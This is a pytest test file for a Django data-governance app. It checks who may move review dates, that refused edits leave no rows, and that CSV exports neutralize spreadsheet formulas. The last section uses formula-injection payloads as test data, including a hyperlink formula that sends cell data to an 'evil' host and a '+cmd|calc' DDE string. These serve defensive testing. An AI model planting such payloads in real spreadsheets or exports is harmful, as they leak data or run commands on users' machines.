"""Governance write rules: review dates move by attestation, refusals leave nothing, safe CSV."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse
from django.utils import timezone

from governance import services
from governance.csv_io import governance_csv_import
from governance.models import AssetGovernance, AuditEvent
from lineage_portal.csv_safety import FORMULA_STARTS, cell_neutralize, cell_restore

from .factories import ColumnFactory, DatasetFactory, StewardFactory

API = "/api/v1/governance/"
DUE = date(2026, 1, 31)


@pytest.fixture
def scheduled(world):
    """The owner's asset, classified, next review due on DUE."""
    services.asset_update(
        actor=world.admin,
        asset=world.asset,
        changes={"classification": "restricted", "next_review_due": DUE},
        expected_version=None,
        reason="initial schedule",
    )
    world.asset.refresh_from_db()
    return world.asset


def _due(asset) -> date | None:
    return AssetGovernance.objects.get(pk=asset.pk).next_review_due


# --- review dates -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["9999-12-31", None])
def test_a_steward_cannot_patch_the_review_date(client, world, scheduled, value):
    client.force_login(world.owner)
    url = f"{API}datasets/{scheduled.dataset_id}/"
    response = client.patch(url, {"next_review_due": value}, content_type="application/json")
    assert response.status_code == 403
    assert "moves when the review is attested" in response.json()["detail"]
    assert _due(scheduled) == DUE


def test_a_steward_can_still_patch_everything_else(client, world, scheduled):
    client.force_login(world.owner)
    url = f"{API}datasets/{scheduled.dataset_id}/"
    response = client.patch(
        url,
        {"classification": "confidential", "next_review_due": DUE.isoformat()},
        content_type="application/json",
    )
    assert response.status_code == 200
    assert response.json()["governance"]["next_review_due"] == DUE.isoformat()


def test_the_form_does_not_let_a_steward_move_the_date(client, world, scheduled):
    client.force_login(world.owner)
    url = reverse("governance_dataset_edit", args=[scheduled.dataset_id])
    # A hand-made POST (no "shown" field): every carried field counts as changed.
    client.post(
        url,
        {"next_review_due": "9999-12-31", "edits": "next_review_due", "version": scheduled.version},
    )
    assert _due(scheduled) == DUE
    page = client.get(reverse("governance_dataset", args=[scheduled.dataset_id])).text
    assert "Moves when the review is attested." in page


def test_bulk_review_cycles_are_for_compliance_admins(world, scheduled):
    with pytest.raises(PermissionDenied):
        services.review_cycle_open(actor=world.owner, assets=[scheduled], due="9999-12-31")
    assert _due(scheduled) == DUE


def test_a_csv_row_moving_the_date_is_refused_and_the_rest_applied(world, scheduled):
    other = AssetGovernance.objects.create(
        dataset=DatasetFactory(name="orders"), steward=world.person
    )
    text = (
        "dataset_key,classification,next_review_due\n"
        f"{scheduled.dataset.key},restricted,9999-12-31\n"
        f"{other.dataset.key},internal,\n"
    )
    report = governance_csv_import(actor=world.owner, lines=text.splitlines(keepends=True))
    assert [(error.line, "attested" in error.reason) for error in report.errors] == [(2, True)]
    assert report.applied == [3]
    assert _due(scheduled) == DUE


def test_an_admin_moves_a_date_only_with_a_reason(client, world, scheduled):
    client.force_login(world.admin)
    url = f"{API}datasets/{scheduled.dataset_id}/"
    refused = client.patch(url, {"next_review_due": "2027-01-01"}, content_type="application/json")
    assert refused.status_code == 400 and "reason" in refused.json()
    moved = client.patch(
        url,
        {"next_review_due": "2027-01-01", "reason": "audit moved to Q1"},
        content_type="application/json",
    )
    assert moved.status_code == 200 and _due(scheduled) == date(2027, 1, 1)
    event = AuditEvent.objects.order_by("-seq").first()
    assert event.reason == "audit moved to Q1" and event.actor == world.admin.username
    assert event.after["next_review_due"] == "2027-01-01"


def test_an_admin_csv_import_moving_dates_needs_its_reason(world, scheduled):
    text = f"dataset_key,next_review_due\n{scheduled.dataset.key},2027-02-01\n"
    lines = text.splitlines(keepends=True)
    refused = governance_csv_import(actor=world.admin, lines=lines)
    assert "needs a reason" in refused.errors[0].reason and _due(scheduled) == DUE
    governance_csv_import(actor=world.admin, lines=lines, reason="reschedule")
    assert _due(scheduled) == date(2027, 2, 1)


def test_attesting_moves_the_date(world, scheduled):
    services.review_attest(actor=world.owner, asset=scheduled, outcome="confirmed")
    assert _due(scheduled) > timezone.localdate() + timedelta(days=30)


def test_a_first_classification_still_schedules_a_review(world):
    column = ColumnFactory(dataset=world.asset.dataset, name="email")
    asset = services.asset_governance_of(column=column)
    services.asset_update(
        actor=world.owner,
        asset=asset,
        changes={"classification": "restricted"},
        expected_version=None,
    )
    assert AssetGovernance.objects.get(column=column).next_review_due is not None


# --- a refusal leaves no row ------------------------------------------------------------------


def _export(client, world) -> list[list[str]]:
    client.force_login(world.auditor)
    response = client.get(reverse("governance_export"))
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_refused_edits_leave_no_empty_row(client, world):
    ungoverned = DatasetFactory(name="nobody_owns_this")
    column = ColumnFactory(dataset=ungoverned, name="ssn")
    before = AssetGovernance.objects.count()
    client.force_login(world.other)
    api = client.patch(
        f"{API}datasets/{ungoverned.pk}/",
        {"classification": "public"},
        content_type="application/json",
    )
    form = client.post(
        reverse("governance_column_edit", args=[column.pk]),
        {"classification": "public", "version": 0, "edits": "classification"},
    )
    bulk = client.post(reverse("governance_bulk"), {"datasets": [ungoverned.pk], "level": "public"})
    report = governance_csv_import(
        actor=world.other,
        lines=["dataset_key,column,classification\n", f"{ungoverned.key},ssn,public\n"],
    )
    assert (api.status_code, form.status_code, bulk.status_code) == (403, 403, 302)
    assert report.errors and not report.applied
    assert AssetGovernance.objects.count() == before
    keys = {row[0] for row in _export(client, world)[1:]}
    assert ungoverned.key not in keys


def test_an_allowed_edit_of_an_ungoverned_asset_creates_its_row(world):
    fresh = DatasetFactory(name="fresh")
    asset = services.asset_governance_of(dataset=fresh)
    assert asset.pk is None
    services.asset_update(
        actor=world.admin,
        asset=asset,
        changes={"classification": "internal"},
        expected_version=None,
    )
    assert AssetGovernance.objects.get(dataset=fresh).classification == "internal"


# --- CSV cells a spreadsheet would run --------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralized(start):
    cell = f'{start}HYPERLINK("http://x")'
    assert cell_neutralize(cell) == "'" + cell
    assert cell_restore(cell_neutralize(cell)) == cell


@pytest.mark.parametrize("plain", ["customers", "", "2026-01-31", "'quoted", "a=b"])
def test_plain_cells_are_left_alone(plain):
    assert cell_neutralize(plain) == plain and cell_restore(plain) == plain


def test_the_export_neutralizes_producer_names_and_round_trips(client, world):
    # Names as a lineage producer might send them: dataset, column and a steward's name.
    dataset = DatasetFactory(name='=hyperlink("http://evil/?"&a1)')
    column = ColumnFactory(dataset=dataset, name="@SUM(1+1)")
    steward = StewardFactory(name="+cmd|calc", members=[])
    for asset in (
        services.asset_governance_of(dataset=dataset),
        services.asset_governance_of(column=column),
    ):
        services.asset_update(
            actor=world.admin,
            asset=asset,
            changes={"classification": "public", "steward": steward},
            expected_version=None,
        )
    rows = _export(client, world)
    ours = [row for row in rows if row[0] == dataset.key]
    cells = [cell for row in ours for cell in row if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'@SUM(1+1)" in cells and "'+cmd|calc" in cells
    # Imported back unchanged, it changes nothing.
    buffer = io.StringIO()
    csv.writer(buffer).writerows([rows[0], *ours])
    report = governance_csv_import(
        actor=world.admin, lines=buffer.getvalue().splitlines(keepends=True)
    )
    assert (report.errors, report.applied, len(report.unchanged)) == ([], [], 2)


def test_a_key_starting_with_a_formula_is_neutralized(client, world):
    dataset = DatasetFactory(platform="-x", name="t")
    services.asset_update(
        actor=world.admin,
        asset=services.asset_governance_of(dataset=dataset),
        changes={"classification": "public"},
        expected_version=None,
    )
    assert ["'" + dataset.key] in [row[:1] for row in _export(client, world)]


def test_validation_error_for_a_bad_reason_type(world, scheduled):
    with pytest.raises(ValidationError):
        services.asset_update(
            actor=world.admin,
            asset=scheduled,
            changes={"next_review_due": "2027-03-03"},
            expected_version=None,
            reason="   ",
        )
